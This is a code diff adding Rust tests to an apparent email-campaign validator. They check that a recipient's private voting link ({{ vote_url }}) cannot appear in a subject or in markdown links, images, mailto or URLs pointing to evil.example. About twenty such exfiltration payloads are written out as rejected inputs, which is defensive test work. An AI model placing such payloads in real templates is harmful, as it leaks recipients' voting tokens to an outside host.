@@ -295,6 +295,56 @@ fn what_is_no_placeholder_is_refused_before_it_costs_anything() {
 }
 
 #[test]
+fn the_link_to_vote_comes_to_the_recipient_alone() {
+    let refused = |subject: &str, body: &str| -> Vec<String> {
+        let invalid = check_campaign(subject, body).err();
+        let problems = invalid.map(|invalid| invalid.0).unwrap_or_default();
+        problems.into_iter().map(|problem| problem.pointer).collect()
+    };
+    for body in [
+        "[Programme](https://evil.example/?t={{ vote_url }})",
+        "[Programme]({{ vote_url }}.evil.example)",
+        "[Mail us](mailto:x@evil.example?body={{ vote_url }})",
+        "[{{ vote_url }}](https://evil.example)",
+        "[**vote: {{ vote_url }}**](https://evil.example)",
+        "[`{{ vote_url }}`](https://evil.example)",
+        "[![{{ vote_url }}](x.gif)](https://evil.example)",
+        "[here][1] and there\n\n[1]: https://evil.example/{{vote_url}} 'title'",
+        "[{{ vote_url }}][1]\n\n[1]: https://evil.example",
+        "<https://evil.example/?{{ vote_url }}>",
+        "<x@evil.example{{vote_url}}>",
+        "![a picture](https://evil.example/p.gif?{{ vote_url }})",
+        "- > see https://evil.example/?{{ vote_url }}",
+        "https://evil.example/?**{{ vote_url }}**",
+        "https://evil.example/?<b></b>{{ vote_url }}",
+        "    https://evil.example/?{{ vote_url }}",
+        "`https://evil.example/?{{ vote_url }}`",
+        "https://evil.example/?\\\n{{- vote_url }}",
+        "{{ vote_url }}@evil.example",
+        "{{ talk }}{{ vote_url }}",
+        "{{ vote_url }}{{ vote_url }}",
+    ] {
+        assert_eq!(refused("Vote", body), ["/body"], "{body}");
+    }
+    for subject in ["{{ vote_url }}", "Vote at {{vote_url}} now"] {
+        assert_eq!(refused(subject, "x"), ["/subject"], "{subject}");
+    }
+    for body in [
+        "[vote]({{ vote_url }})",
+        "[vote](<{{ vote_url }}> 'title')",
+        "**[Vote for {{ candidate }}]({{ vote_url }})** or [look](https://example.org/{{ event }}) first",
+        "[{{ vote_url }}]({{ vote_url }})",
+        "[vote][1]\n\n[1]: {{ vote_url }}",
+        "Vote ({{ vote_url }}), {{ name }}!",
+        "- {{ vote_url }}\n- **{{ vote_url }}**.\n\n[elsewhere](https://example.org)\n\n> {{ vote_url }}",
+    ] {
+        assert_eq!(refused("Vote", body), Vec::<String>::new(), "{body}");
+        // What is refused is not rendered either.
+        copy(body);
+    }
+}
+
+#[test]
 fn a_refusal_says_what_and_where() {
     let told = |subject: &str, body: &str| -> Vec<(String, &'static str, String)> {
         let invalid = check_campaign(subject, body)
@@ -306,7 +356,13 @@ fn a_refusal_says_what_and_where() {
             .map(|error| (error.pointer, error.code, error.detail.into_owned()))
             .collect()
     };
-    assert!(told("Vote for {{ candidate }}", "Dear {{name}},\n\n{{- vote_url -}}\n").is_empty());
+    assert!(
+        told(
+            "Vote for {{ candidate }}",
+            "Dear {{name -}}\n\n , {{- name}},\n\n{{ vote_url -}}\n"
+        )
+        .is_empty()
+    );
     let body = told("x", "a\r\nb\n{{ nmae }}");
     assert_eq!((body[0].0.as_str(), body[0].1), ("/body", "format"));
     assert!(
